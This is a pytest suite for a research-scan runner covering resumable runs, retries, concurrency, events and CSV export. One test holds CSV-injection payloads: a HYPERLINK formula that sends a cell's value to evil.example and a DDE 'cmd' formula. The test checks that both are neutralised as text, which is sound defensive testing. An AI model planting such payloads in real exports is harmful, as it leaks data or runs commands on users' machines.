"""Scans: one research run per item, typed rows on disk, resumable, retried, bounded, with events per item."""

from __future__ import annotations

import csv
import json
import os
import threading
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from haystack import Pipeline
from haystack.components.agents import Agent
from tests.support import without_blocking_on

from haystack_deep_research import (
    ConfigurationError,
    Event,
    ResearchSummary,
    Sources,
    UrlPolicy,
    create_iterative_research_agent,
)
from haystack_deep_research.errors import MissingExtraError
from haystack_deep_research.scans import ItemRef, KnowledgeProvider, KnowledgeRow, ListProvider, RayExecutor, ScanRunner
from haystack_deep_research.scans.results import ResultsFile
from haystack_deep_research.testing import ScriptedChatGenerator


class Crash(BaseException):
    """Stands for the scanning process dying: not an item's failure, it ends the scan."""


class Recorder:
    """A research callable: answers each prompt with a small result, and remembers what it was asked."""

    def __init__(self, fail: Mapping[str, int] | None = None, crash_at: str | None = None) -> None:
        self.asked: list[str] = []
        self.fail = dict(fail or {})
        self.crash_at = crash_at
        self._lock = threading.Lock()

    def factory(self) -> Callable[[str], dict[str, Any]]:
        return self

    def __call__(self, prompt: str) -> dict[str, Any]:
        with self._lock:
            self.asked.append(prompt)
            if prompt == self.crash_at:
                raise Crash
            if self.fail.get(prompt, 0) > 0:
                self.fail[prompt] -= 1
                raise RuntimeError(f"the model is down for {prompt}")
        return {"summary": f"About {prompt}.", "grounding_score": 1.0}


ITEMS = [f"item-{n:02d}" for n in range(8)]


def _runner(research: Callable[[], Any], results: Path, **options: Any) -> ScanRunner:
    options.setdefault("retry_delay", 0.0)
    return ScanRunner(provider=options.pop("provider", ITEMS), research=research, results=results, **options)


def test_every_item_gets_its_own_run_and_a_row_in_item_order(tmp_path: Path) -> None:
    recorder = Recorder()
    result = _runner(recorder.factory, tmp_path / "rows.jsonl").run()

    assert [row.id for row in result.rows] == ITEMS
    assert result.rows[3].data == {"summary": "About item-03.", "grounding_score": 1.0}
    assert sorted(recorder.asked) == ITEMS
    assert (result.researched, result.skipped, result.failed) == (8, 0, {})
    lines = [json.loads(line) for line in (tmp_path / "rows.jsonl").read_text().splitlines()]
    assert sorted(line["id"] for line in lines) == ITEMS
    assert lines[0]["item"]["provider"] == "list"


def test_a_scan_resumes_after_a_crash_without_researching_finished_items_again(tmp_path: Path) -> None:
    results = tmp_path / "rows.jsonl"
    crashing = Recorder(crash_at="item-05")
    with pytest.raises(Crash):
        _runner(crashing.factory, results, max_concurrency=1).run()
    assert len(results.read_text().splitlines()) == 5  # items 0-4 were written the moment they finished

    again = Recorder()
    result = _runner(again.factory, results, max_concurrency=1).run()

    assert again.asked == ["item-05", "item-06", "item-07"]
    assert (result.researched, result.skipped) == (3, 5)
    assert [row.id for row in result.rows] == ITEMS
    ids = [json.loads(line)["id"] for line in results.read_text().splitlines()]
    assert sorted(ids) == ITEMS  # each item once: nothing lost, nothing duplicated


def test_a_row_cut_short_by_a_crash_is_researched_again(tmp_path: Path) -> None:
    results = tmp_path / "rows.jsonl"
    _runner(Recorder().factory, results, provider=ITEMS[:2]).run()
    with results.open("a", encoding="utf-8") as file:
        file.write('{"item": {"name": "item-02", "provider": "list"}, "id": "item-0')

    again = Recorder()
    result = _runner(again.factory, results, provider=ITEMS[:3]).run()

    assert again.asked == ["item-02"]
    assert [row.id for row in result.rows] == ITEMS[:3]
    # The file is appended to as items finish, whatever their order; the torn line is gone.
    assert sorted(json.loads(line)["id"] for line in results.read_text().splitlines()) == ITEMS[:3]


@pytest.mark.parametrize("damage", [b'"caf\xe9', b"[" * 1200])
def test_a_damaged_row_is_skipped_with_a_warning_and_its_item_researched_again(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, damage: bytes
) -> None:
    results = tmp_path / "rows.jsonl"
    _runner(Recorder().factory, results, provider=ITEMS[:3]).run()
    lines = results.read_bytes().split(b"\n")
    lines[1] = lines[1].replace(b'"About', damage)  # the second row finished is damaged
    damaged_id = json.loads(results.read_text().splitlines()[1])["id"]
    results.write_bytes(b"\n".join(lines))

    again = Recorder()
    result = _runner(again.factory, results, provider=ITEMS[:3]).run()

    assert again.asked == [damaged_id]
    assert sorted(row.id for row in result.rows) == ITEMS[:3]
    assert "line 2 is damaged" in caplog.text


def test_a_line_that_is_not_a_row_is_named_by_its_own_number_after_a_skipped_damaged_one(tmp_path: Path) -> None:
    results = tmp_path / "rows.jsonl"
    _runner(Recorder().factory, results, provider=ITEMS[:2]).run()
    # Line 1 a finished row, line 2 not UTF-8 (skipped), line 3 blank, line 4 not JSON at all.
    results.write_bytes(results.read_bytes().split(b"\n")[0] + b'\n{"id": "caf\xe9"}\n\nnot a row\n')

    with pytest.raises(ConfigurationError, match=r"rows\.jsonl line 4 is not a row of a scan"):
        ResultsFile(results).rows()


def test_a_row_whose_text_holds_a_lone_surrogate_is_written_as_utf8(tmp_path: Path) -> None:
    results = tmp_path / "rows.jsonl"

    result = _runner(lambda: lambda prompt: {"summary": "caf\udce9"}, results, provider=["item"]).run()

    assert [row.id for row in result.rows] == ["item"]
    assert json.loads(results.read_text(encoding="utf-8"))["data"] == {"summary": "caf\ufffd"}


def test_failed_attempts_are_retried_and_an_item_that_always_fails_is_recorded(tmp_path: Path) -> None:
    events: list[Event] = []
    recorder = Recorder(fail={"item-01": 1, "item-02": 5})
    result = _runner(recorder.factory, tmp_path / "rows.jsonl", max_attempts=2, on_event=events.append).run()

    assert [row.id for row in result.rows] == [item for item in ITEMS if item != "item-02"]
    assert result.failed == {"item-02": "RuntimeError: the model is down for item-02"}
    assert recorder.asked.count("item-01") == 2
    assert recorder.asked.count("item-02") == 2
    failures = [(e.item, e.attempt, e.final) for e in events if e.kind == "item_failed"]  # type: ignore[attr-defined]
    assert sorted(failures) == [("item-01", 1, False), ("item-02", 1, False), ("item-02", 2, True)]
    [recorded] = ResultsFile(tmp_path / "rows.jsonl").failures()
    assert (recorded["item"]["name"], recorded["attempts"]) == ("item-02", 2)
    assert (tmp_path / "rows.failures.jsonl").exists()

    # A failed item is not finished: the next scan tries it again, and only it.
    again = Recorder()
    rerun = _runner(again.factory, tmp_path / "rows.jsonl").run()
    assert again.asked == ["item-02"]
    assert [row.id for row in rerun.rows] == ITEMS


def test_at_most_max_concurrency_items_are_in_flight(tmp_path: Path) -> None:
    barrier = threading.Barrier(3, timeout=30)
    lock, running, peak = threading.Lock(), [0], [0]

    def research(prompt: str) -> dict[str, Any]:
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        barrier.wait()  # passes only when three items run at once
        with lock:
            running[0] -= 1
        return {"summary": prompt}

    result = _runner(lambda: research, tmp_path / "rows.jsonl", provider=ITEMS[:6], max_concurrency=3).run()

    assert peak[0] == 3
    assert len(result.rows) == 6


def test_events_follow_every_item(tmp_path: Path) -> None:
    events: list[Event] = []
    _runner(Recorder().factory, tmp_path / "rows.jsonl", provider=[*ITEMS[:3], "item-00"], on_event=events.append).run()

    kinds = [event.kind for event in events]
    assert kinds[0] == "scan_started"
    assert kinds[-1] == "scan_ended"
    assert kinds.count("item_started") == kinds.count("item_done") == 3
    assert events[0].describe() == "scan started: 3 item(s), 0 already done"
    assert [e.describe() for e in events if e.kind == "item_skipped"] == ["skipped item-00: listed more than once"]
    assert events[-1].describe().startswith("scan ended: 3 row(s), 0 failed, 1 skipped")
    assert len({event.run_id for event in events}) == 1


def test_rows_export_to_csv_with_lists_as_json(tmp_path: Path) -> None:
    def research(prompt: str) -> ResearchSummary:
        return ResearchSummary(summary=prompt, key_findings=["a", "b"], sources=["https://a.example/"], confidence=0.5)

    result = _runner(lambda: research, tmp_path / "rows.jsonl", provider=ITEMS[:2]).run()
    written = list(csv.reader(result.write_csv(tmp_path / "rows.csv").open(encoding="utf-8")))

    assert written[0] == ["id", "summary", "key_findings", "sources", "confidence"]
    assert written[1] == ["item-00", "item-00", '["a", "b"]', '["https://a.example/"]', "0.5"]


class Inventory(KnowledgeProvider):
    """A provider of hosts, with its own prompt and its own row."""

    def list_items(self) -> list[ItemRef]:
        return [ItemRef(name=host, provider="inventory", meta={"rack": 7}) for host in ("alpha", "beta")]

    def describe_item(self, ref: ItemRef) -> str:
        return f"What is known about the host {ref.name} in rack {ref.meta['rack']}?"

    def to_row(self, ref: ItemRef, result: Mapping[str, Any]) -> KnowledgeRow:
        return KnowledgeRow(id=ref.name, data={"report_chars": len(result["report"]), "exit": result["exit_reason"]})


def test_any_shape_researches_an_item_the_deep_research_agent_here(
    tmp_path: Path, make_agent: Callable[..., Agent]
) -> None:
    result = _runner(make_agent, tmp_path / "rows.jsonl", provider=Inventory()).run()

    assert [row.id for row in result.rows] == ["alpha", "beta"]
    assert all(row.data["report_chars"] > 100 and row.data["exit"] == "text" for row in result.rows)


def test_the_research_workflow_researches_each_item(tmp_path: Path, make_workflow: Callable[..., Pipeline]) -> None:
    result = _runner(make_workflow, tmp_path / "rows.jsonl", provider=["solar capacity", "battery storage"]).run()

    assert [row.id for row in result.rows] == ["solar capacity", "battery storage"]
    row = result.rows[0].data
    assert set(row) == {
        "summary",
        "key_findings",
        "sources",
        "confidence",
        *("grounding_score", "exit_reason"),
        *("regeneration_count", "replan_count"),
    }
    assert row["grounding_score"] == 1.0
    assert row["sources"]


def test_items_come_from_a_text_file_one_per_line(tmp_path: Path) -> None:
    items = tmp_path / "items.txt"
    items.write_text("# hosts to check\nalpha\n\n beta \n", encoding="utf-8")

    assert [ref.name for ref in ListProvider.from_file(items).list_items()] == ["alpha", "beta"]


def test_an_items_file_that_is_a_fifo_or_not_utf8_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "items.fifo"
    os.mkfifo(fifo)
    latin = tmp_path / "latin.txt"
    latin.write_bytes("Zürich\n".encode("latin-1"))
    for path in (fifo, latin):
        blocked, outcome = without_blocking_on(fifo, lambda path=path: ListProvider.from_file(path))
        assert not blocked
        assert isinstance(outcome, ConfigurationError)
        assert f"cannot read the items file {path}" in str(outcome)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"executor": "spark"}, "executor must be 'local', 'ray', or an executor"),
        ({"max_concurrency": 0}, "max_concurrency must be an integer from 1 to 256"),
        ({"max_attempts": 11}, "max_attempts must be an integer from 1 to 10"),
        ({"research": "workflow"}, "research must be a callable"),
        ({"provider": "alpha"}, "items must be a list of strings"),
    ],
)
def test_bad_options_are_refused_at_once(tmp_path: Path, options: dict[str, Any], message: str) -> None:
    arguments: dict[str, Any] = {"provider": ITEMS, "research": Recorder().factory, "results": tmp_path / "r.jsonl"}
    with pytest.raises(ConfigurationError, match=message):
        ScanRunner(**{**arguments, **options})


def test_ray_missing_is_an_error_naming_the_extra(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setitem(__import__("sys").modules, "ray", None)
    with pytest.raises(MissingExtraError, match=r"pip install haystack-deep-research\[ray\]") as raised:
        _runner(Recorder().factory, tmp_path / "rows.jsonl", executor=RayExecutor()).run()
    assert raised.value.extra == "ray"
    assert not (tmp_path / "rows.jsonl").exists()


def test_the_iterative_research_agent_researches_each_item(
    tmp_path: Path, make_search_tool: Callable[..., Any]
) -> None:
    def iterative() -> Any:
        return create_iterative_research_agent(
            analysis_llm=ScriptedChatGenerator(role="analysis", steps=["solar capacity", None]),
            writer_llm=ScriptedChatGenerator(role="writer"),
            summarizer_llm=ScriptedChatGenerator(role="summarizer"),
            sources=Sources(search=make_search_tool(max_results=2), url_policy=UrlPolicy(allow_hosts=("127.0.0.1",))),
            read_top_k=1,
            depth=2,
        )

    result = _runner(iterative, tmp_path / "rows.jsonl", provider=Inventory()).run()

    assert result.failed == {}
    assert [row.id for row in result.rows] == ["alpha", "beta"]
    assert all(row.data["report_chars"] > 100 for row in result.rows)
    assert {row.data["exit"] for row in result.rows} <= {"analysis_stopped", "depth_reached"}


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    hostile = {
        "item-00": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
        "item-01": "+1+cmd|' /C calc'!A0",
        "item-02": "-2+3",
        "item-03": "@SUM(A1:A9)",
        "item-04": "\tTab-led",
        "item-05": "Résumé: tides rose 4.2 m",
        "item-06": "  =1+1",
        "item-07": '\uff1dHYPERLINK("https://evil.example")',
    }
    result = _runner(
        lambda: lambda prompt: {"summary": hostile[prompt]}, tmp_path / "rows.jsonl", provider=list(hostile)
    ).run()

    written = list(csv.reader(result.write_csv(tmp_path / "rows.csv").open(encoding="utf-8")))

    assert written[0] == ["id", "summary"]
    assert dict(written[1:]) == {
        "item-00": "'" + hostile["item-00"],
        "item-01": "'" + hostile["item-01"],
        "item-02": "'-2+3",
        "item-03": "'@SUM(A1:A9)",
        "item-04": "'\tTab-led",
        "item-05": "Résumé: tides rose 4.2 m",
        "item-06": "'  =1+1",
        "item-07": "'" + hostile["item-07"],
    }


@pytest.mark.parametrize("hostile", ["link", "fifo"])
def test_a_results_file_that_is_a_link_or_a_fifo_is_refused_and_left_as_it_was(hostile: str, tmp_path: Path) -> None:
    results = tmp_path / "rows.jsonl"
    target = tmp_path / "passwd"
    target.write_bytes(b"root:x:0:0:root:/root:/bin/sh\nunterminated")
    if hostile == "link":
        results.symlink_to(target)
    else:
        os.mkfifo(results)  # a plain read blocks forever
    outcome: list[BaseException] = []

    def scan() -> None:
        try:
            _runner(Recorder().factory, results, provider=ITEMS[:1]).run()
        except BaseException as error:  # handed to the test thread
            outcome.append(error)

    scanning = threading.Thread(target=scan, daemon=True)
    scanning.start()
    scanning.join(timeout=60)

    assert not scanning.is_alive()
    [error] = outcome
    assert isinstance(error, ConfigurationError)
    assert str(results) in str(error)
    assert target.read_bytes() == b"root:x:0:0:root:/root:/bin/sh\nunterminated"
    assert results.is_symlink() if hostile == "link" else results.is_fifo()
